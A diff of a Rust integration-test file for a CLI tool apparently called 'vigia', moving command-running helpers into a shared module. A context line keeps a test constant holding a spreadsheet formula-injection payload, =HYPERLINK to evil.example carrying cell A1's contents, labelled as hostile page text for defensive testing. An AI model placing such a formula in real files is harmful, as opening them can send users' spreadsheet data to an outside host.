@@ -5,23 +5,14 @@
 use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
-use assert_cmd::Command;
+mod common;
+
 use chrono::{TimeZone, Utc};
+use common::cli::{stdout_of, vigia};
 use predicates::prelude::*;
 use rusqlite::Connection;
 use vigia::extract::{Entity, EntityType, Extraction, Statistic};
 use vigia::store::{NewArticle, PageRecord, SCHEMA_VERSION, Store};
-
-fn vigia() -> Command {
-    let mut cmd = Command::cargo_bin("vigia").unwrap();
-    cmd.env_remove("VIGIA_CONFIG").env_remove("RUST_LOG");
-    cmd
-}
-
-fn stdout_of(cmd: &mut Command) -> String {
-    let out = cmd.assert().success().get_output().stdout.clone();
-    String::from_utf8(out).unwrap()
-}
 
 /// Page text as a hostile site could send it: formulas, terminal escapes, bidi overrides.
 const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
